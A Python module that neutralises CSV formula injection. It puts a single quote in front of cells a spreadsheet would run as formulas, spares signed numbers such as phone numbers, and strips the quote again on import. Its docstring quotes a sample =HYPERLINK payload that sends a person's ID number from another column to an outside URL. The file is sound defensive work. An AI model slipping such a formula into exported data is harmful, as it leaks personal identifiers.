"""Text a spreadsheet would run as a formula, and the form it is written in a .csv file.

A spreadsheet opening a .csv runs a cell starting with = + - or @ as a formula (and some skip a tab
or a carriage return before one): a surname «=HYPERLINK("http://…?"&D2,"click")» sends the IIN of
column D away when clicked. OWASP's advice for CSV is a single quote in front, which the spreadsheet
shows as text. A number with its sign («-5», «+77011234567», the stored form of a phone) is left as
it is: a spreadsheet reads it as that number and runs nothing, and the program's own import reads the
phone back unchanged, where a quote in front would be kept in the person's phone.

A .xlsx cell has a type of its own, so a workbook stores such text as text instead
(app/reports/workbook.py). Standard library only (docs/architecture.md, rules layer).
"""

from __future__ import annotations

import re

QUOTE = "'"
_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# A number as a spreadsheet reads one: a sign, digits with one decimal point or comma, an exponent.
_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?")


def runs_as_formula(text: str) -> bool:
    """Whether a spreadsheet would run ``text`` as a formula: it starts with = + - @, a tab or a
    carriage return, and is not a number."""
    return text.startswith(_TRIGGERS) and _NUMBER.fullmatch(text) is None


def neutral(text: str) -> str:
    """``text`` for a .csv cell: behind a single quote when a spreadsheet would run it. Text that
    already has quotes in front of such text gets one more, so ``restored`` always gives back exactly
    what was written."""
    return QUOTE + text if runs_as_formula(text.lstrip(QUOTE)) else text


def restored(text: str) -> str:
    """The text ``neutral`` was given: the one quote it put in front taken off (an import reading a
    file the program exported, or one a spreadsheet saved again)."""
    return text[1:] if text.startswith(QUOTE) and runs_as_formula(text.lstrip(QUOTE)) else text
